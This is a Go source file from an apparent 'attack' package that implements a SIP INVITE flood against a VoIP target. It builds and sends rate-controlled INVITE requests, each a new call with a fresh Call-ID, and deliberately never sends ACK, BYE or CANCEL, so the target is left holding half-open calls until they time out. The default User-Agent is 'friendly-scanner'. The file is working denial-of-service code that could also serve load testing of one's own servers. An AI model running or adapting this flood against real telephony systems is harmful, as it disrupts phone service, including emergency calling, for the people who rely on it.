package attack

import (
	"context"
	"errors"
	"net/netip"
	"strconv"
	"time"
)

// InviteFloodConfig configures InviteFlood.
type InviteFloodConfig struct {
	// Target is where every INVITE goes (required).
	Target netip.AddrPort
	// Local is the address and port to send from (see
	// ExtensionScanConfig.Local).
	Local netip.AddrPort
	// Domain is the host part of the URIs; default the target address.
	Domain string
	// To is the user part of the Request-URI and To; default "100".
	To string
	// From is the user part of From and Contact; default "flood".
	From string
	// UserAgent is the User-Agent header; default "friendly-scanner".
	UserAgent string
	// SDP adds an audio offer (application/sdp) to each INVITE.
	SDP bool
	// Rate is the INVITEs per second; 0 sends as fast as the socket
	// takes them. Sends follow a schedule fixed at the start (send n at
	// n/Rate), so delays are caught up rather than accumulated.
	Rate float64
	// Count bounds the INVITEs sent; default 1000.
	Count int
	// Duration bounds the sending; default 10s.
	Duration time.Duration
	// Linger is how long to keep reading responses after the last
	// INVITE, ending early once every INVITE has a final response;
	// default 0 (do not wait).
	Linger time.Duration
}

func (c *InviteFloodConfig) defaults() error {
	if c.Count < 0 || c.Duration < 0 || c.Rate < 0 || c.Linger < 0 {
		return errors.New("attack: InviteFlood: negative Count, Duration, Rate or Linger")
	}
	if c.Count == 0 {
		c.Count = defaultCount
	}
	if c.Duration == 0 {
		c.Duration = defaultDuration
	}
	if c.To == "" {
		c.To = "100"
	}
	if c.From == "" {
		c.From = "flood"
	}
	if c.UserAgent == "" {
		c.UserAgent = defaultUserAgent
	}
	return nil
}

// InviteFlood sends INVITEs at Rate, each a new call (distinct Call-ID,
// From tag and branch), optionally with SDP, and never sends ACK, BYE or
// CANCEL: every call it starts is left for the target to time out. It is
// bounded by Count and Duration. Responses are counted by status code
// (retransmitted finals included, since nothing acknowledges them). The
// error is non-nil only when the flood could not start.
func InviteFlood(ctx context.Context, cfg InviteFloodConfig) (Report, error) {
	var rep Report
	if err := cfg.defaults(); err != nil {
		return rep, err
	}
	conn, err := dialUDP(cfg.Local, cfg.Target)
	if err != nil {
		return rep, err
	}
	col := startCollector(conn, false)
	local := hostPort(conn)
	domain := domainOf(cfg.Domain, cfg.Target)
	b := inviteBuilder{
		ids: idGen{prefix: runID()}, local: local, localHost: hostOnly(local),
		domain: domain, to: cfg.To, from: cfg.From, ua: cfg.UserAgent, sdp: cfg.SDP,
	}
	start := time.Now()
	p := newPacer(ctx, start, deadlineOf(ctx, start, cfg.Duration), cfg.Rate)
	defer p.stop()
	var buf []byte
	rep.Stop = StopCount
	for n := 0; n < cfg.Count; n++ {
		if stop := p.wait(n); stop != "" {
			rep.Stop = stop
			break
		}
		buf = b.build(buf[:0])
		if _, err := conn.Write(buf); err != nil {
			sendErr(&rep, err)
			continue
		}
		rep.Sent++
	}
	rep.SendElapsed = time.Since(start)
	col.linger(ctx, cfg.Linger, rep.Sent)
	col.finish(conn, &rep)
	rep.Elapsed = time.Since(start)
	return rep, nil
}

// inviteBuilder makes the flood's INVITEs without fmt.
type inviteBuilder struct {
	ids                                    idGen
	local, localHost, domain, to, from, ua string
	sdp                                    bool
	body                                   []byte
}

func (ib *inviteBuilder) build(b []byte) []byte {
	b = append(b, "INVITE sip:"...)
	b = append(b, ib.to...)
	b = append(b, '@')
	b = append(b, ib.domain...)
	b = append(b, " SIP/2.0\r\nVia: SIP/2.0/UDP "...)
	b = append(b, ib.local...)
	b = append(b, ";branch=z9hG4bK"...)
	b = ib.ids.next(b)
	b = append(b, ";rport\r\nMax-Forwards: 70\r\nFrom: <sip:"...)
	b = append(b, ib.from...)
	b = append(b, '@')
	b = append(b, ib.domain...)
	b = append(b, ">;tag="...)
	b = ib.ids.next(b)
	b = append(b, "\r\nTo: <sip:"...)
	b = append(b, ib.to...)
	b = append(b, '@')
	b = append(b, ib.domain...)
	b = append(b, ">\r\nCall-ID: "...)
	b = ib.ids.next(b)
	b = append(b, "\r\nCSeq: 1 INVITE\r\nContact: <sip:"...)
	b = append(b, ib.from...)
	b = append(b, '@')
	b = append(b, ib.local...)
	b = append(b, ">\r\nUser-Agent: "...)
	b = append(b, ib.ua...)
	if !ib.sdp {
		return append(b, "\r\nContent-Length: 0\r\n\r\n"...)
	}
	ib.body = appendSDP(ib.body[:0], ib.localHost, ib.ids.n)
	b = append(b, "\r\nContent-Type: application/sdp\r\nContent-Length: "...)
	b = strconv.AppendInt(b, int64(len(ib.body)), 10)
	b = append(b, "\r\n\r\n"...)
	return append(b, ib.body...)
}
